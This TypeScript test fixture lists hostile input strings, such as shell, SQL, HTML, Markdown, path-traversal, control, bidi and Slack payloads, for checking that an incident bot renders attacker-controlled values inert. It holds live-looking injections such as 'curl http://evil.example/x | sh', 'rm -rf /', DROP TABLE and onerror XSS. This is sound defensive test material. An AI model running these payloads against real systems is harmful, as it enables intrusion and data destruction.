/**
 * Values an attacker controls (tenant ids, capsule hashes and reasons arrive from Kafka and Alertmanager labels
 * unchecked by the bot) and that must come out inert in argv, shell lines, SQL, Markdown, HTML and Slack. Shared by
 * the unit, cluster and UI tests, so every surface is tried with the same list. Built from escapes so this file
 * itself contains no raw control or bidi characters.
 */
export type HostileCategory =
  | 'shell'
  | 'sql'
  | 'markdown'
  | 'html'
  | 'path'
  | 'control'
  | 'bidi'
  | 'unicode'
  | 'length'
  | 'option'
  | 'format'
  | 'slack'
  | 'secret';

export interface HostileInput {
  /** Stable id for test names. */
  id: string;
  value: string;
  categories: readonly HostileCategory[];
  note: string;
}

const RLO = '\u202e';

export const HOSTILE_INPUTS: readonly HostileInput[] = Object.freeze([
  { id: 'shell-quote-rm', value: "a'; rm -rf / #", categories: ['shell', 'sql'], note: 'closes a single quote' },
  { id: 'shell-subst', value: '$(reboot)', categories: ['shell'], note: 'command substitution' },
  {
    id: 'shell-backtick',
    value: '`reboot`',
    categories: ['shell', 'markdown'],
    note: 'old-style substitution, code span',
  },
  {
    id: 'shell-chain',
    value: 'x && curl http://evil.example/x | sh',
    categories: ['shell'],
    note: 'and-list and pipe',
  },
  { id: 'shell-semicolon', value: 'tenant;id', categories: ['shell'], note: 'command separator' },
  { id: 'shell-var', value: '${IFS}cat${IFS}/etc/passwd', categories: ['shell', 'path'], note: 'parameter expansion' },
  { id: 'shell-glob', value: '*', categories: ['shell'], note: 'glob expands to file names' },
  { id: 'shell-tilde', value: '~root', categories: ['shell'], note: 'tilde expansion' },
  { id: 'shell-double-quote', value: 'a"b\\"c', categories: ['shell', 'sql'], note: 'double quotes and backslash' },
  { id: 'shell-redirect', value: 'x >/etc/passwd', categories: ['shell', 'html'], note: 'redirection' },
  { id: 'shell-newline', value: 'ok\nrm -rf /', categories: ['shell', 'control'], note: 'a second command line' },
  { id: 'option-kubeconfig', value: '--kubeconfig=/tmp/evil', categories: ['option'], note: 'read as a kubectl flag' },
  { id: 'option-short', value: '-f', categories: ['option'], note: 'read as an option (ping -f floods)' },
  { id: 'sql-or', value: "' OR '1'='1", categories: ['sql', 'shell'], note: 'classic tautology' },
  {
    id: 'sql-drop',
    value: '\'; DROP TABLE "UsageEvent"; --',
    categories: ['sql', 'shell'],
    note: 'statement injection into the tenant query',
  },
  { id: 'sql-psql-meta', value: "x' \\! reboot", categories: ['sql', 'shell'], note: 'psql backslash command' },
  { id: 'html-img', value: '<img src=x onerror=alert(1)>', categories: ['html'], note: 'script via an event handler' },
  { id: 'html-script', value: '<script>alert(1)</script>', categories: ['html'], note: 'script element' },
  {
    id: 'html-comment-close',
    value: '--> <!-- pf-incident:timeline:end -->',
    categories: ['html', 'markdown'],
    note: 'ends an HTML comment and fakes a marker',
  },
  {
    id: 'md-js-link',
    value: '](javascript:x)',
    categories: ['markdown'],
    note: 'closes a link label into a javascript: URL',
  },
  { id: 'md-link', value: '[click](javascript:alert(1))', categories: ['markdown'], note: 'a javascript: link' },
  { id: 'md-image', value: '![x](https://evil.example/pixel.png)', categories: ['markdown'], note: 'a tracking image' },
  { id: 'md-table', value: '| col | col |', categories: ['markdown'], note: 'breaks a table row' },
  { id: 'md-heading', value: '\n# Fake heading', categories: ['markdown', 'control'], note: 'starts a new block' },
  { id: 'md-emphasis', value: '**bold** _it_ ~~del~~', categories: ['markdown'], note: 'formatting' },
  { id: 'md-autolink', value: '<https://evil.example>', categories: ['markdown', 'html', 'slack'], note: 'autolink' },
  {
    id: 'md-entity',
    value: '&lt;img src=x onerror=alert(1)&gt;',
    categories: ['html'],
    note: 'pre-escaped entities must stay text',
  },
  {
    id: 'md-command-uri',
    value: '[run](command:pfIncident.incidents.clear)',
    categories: ['markdown'],
    note: 'a VS Code command link',
  },
  { id: 'path-traversal', value: '../../etc/passwd', categories: ['path'], note: 'leaves the folder' },
  { id: 'path-windows', value: '..\\..\\windows\\win.ini', categories: ['path'], note: 'backslash traversal' },
  { id: 'path-absolute', value: '/etc/passwd', categories: ['path'], note: 'absolute path' },
  { id: 'control-nul', value: 'abc\u0000def', categories: ['control'], note: 'NUL truncates C strings' },
  { id: 'control-ansi', value: '\u001b[2J\u001b[31mred', categories: ['control'], note: 'clears a terminal' },
  { id: 'control-crlf', value: 'a\r\nb', categories: ['control'], note: 'CRLF (header or log injection)' },
  { id: 'control-bell', value: 'x\u0007', categories: ['control'], note: 'BEL' },
  { id: 'control-nel', value: 'a\u0085b', categories: ['control'], note: 'NEL, a line break to some readers' },
  { id: 'control-ls', value: 'a\u2028b', categories: ['control'], note: 'U+2028 line separator' },
  { id: 'bidi-rlo', value: `tenant${RLO}fdp.exe`, categories: ['bidi'], note: 'right-to-left override' },
  { id: 'bidi-isolate', value: 'a\u2066b\u2069c', categories: ['bidi'], note: 'bidi isolates' },
  { id: 'unicode-zwsp', value: 'tenant\u200b1', categories: ['unicode'], note: 'zero width space' },
  { id: 'unicode-bom', value: '\ufefftenant', categories: ['unicode'], note: 'byte order mark' },
  {
    id: 'unicode-lone-surrogate',
    value: 'a\ud800b',
    categories: ['unicode'],
    note: 'unpaired surrogate (not UTF-8 encodable)',
  },
  { id: 'unicode-fullwidth', value: 'a\uff1brm', categories: ['unicode'], note: 'fullwidth semicolon lookalike' },
  {
    id: 'unicode-cyrillic-hash',
    value: 'sha256:\u04304f8b2c1d9e7a6b5c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0',
    categories: ['unicode'],
    note: 'a Cyrillic letter that looks like hex',
  },
  { id: 'length-10k', value: 'a'.repeat(10_000), categories: ['length'], note: 'over-long' },
  { id: 'empty', value: '', categories: ['length'], note: 'empty' },
  { id: 'whitespace', value: '   ', categories: ['length'], note: 'whitespace only' },
  { id: 'json-break', value: '","kind":"Secret","x":"', categories: ['format'], note: 'closes a JSON string' },
  { id: 'yaml-tag', value: '!!python/object/apply:os.system ["reboot"]', categories: ['format'], note: 'YAML tag' },
  { id: 'jsonpath', value: '{.items[*].data}', categories: ['format', 'shell'], note: 'a kubectl JSONPath template' },
  { id: 'printf-format', value: '%s%n%x', categories: ['format'], note: 'printf conversions' },
  { id: 'slack-channel', value: '<!channel> @here', categories: ['slack', 'html'], note: 'pings everyone' },
  {
    id: 'slack-link',
    value: '<https://evil.example|Click for details>',
    categories: ['slack', 'html'],
    note: 'a disguised Slack link',
  },
  {
    id: 'secret-slack-token',
    value: 'xoxb-1234567890-0987654321-abcdefghijklmnopqrstuvwx',
    categories: ['secret'],
    note: 'a Slack bot token',
  },
  {
    id: 'secret-webhook',
    value: 'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX',
    categories: ['secret', 'slack'],
    note: 'a Slack webhook URL',
  },
  {
    id: 'secret-bearer',
    value: 'Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.e30.sig',
    categories: ['secret'],
    note: 'a bearer token',
  },
]);

/** The corpus entries of one category. */
export function hostileInputs(category: HostileCategory): HostileInput[] {
  return HOSTILE_INPUTS.filter((h) => h.categories.includes(category));
}
